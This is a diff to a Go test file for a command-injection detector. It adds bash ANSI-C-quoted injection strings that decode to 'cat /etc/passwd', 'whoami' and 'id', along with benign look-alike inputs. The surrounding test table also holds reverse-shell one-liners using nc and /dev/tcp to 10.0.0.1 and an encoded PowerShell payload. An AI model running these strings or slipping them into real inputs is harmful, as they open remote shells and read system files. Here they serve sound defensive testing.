@@ -40,6 +40,10 @@ var commandAttacks = []placedCase{
 	{"nc -e /bin/sh 10.0.0.1 4444", nil},
 	{"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", nil},
 	{"; powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", nil},
+	// bash's ANSI-C quoting: the shell decodes the escapes
+	{"a;$'\\x63\\x61\\x74' /etc/passwd", nil},
+	{";$'\\167\\150\\157\\141\\155\\151'", nil},
+	{"|$'\\x69\\x64'", nil},
 	// PowerShell's built-in aliases after a separator
 	{";saps cmd.exe", nil},
 	{"| gwmi win32_process", nil},
@@ -80,6 +84,8 @@ var commandAttacks = []placedCase{
 }
 
 var commandBenign = []placedCase{
+	{"it costs $'5' more, they said", nil},
+	{"regex: match $'\\x41' as a literal A", nil},
 	{"JVM tuning; gc logs show long pauses", nil},
 	{"lat/long from the phone's GPS; gps accuracy is 5 m", nil},
 	{"Q&A: ICM and CPI figures for May", nil},
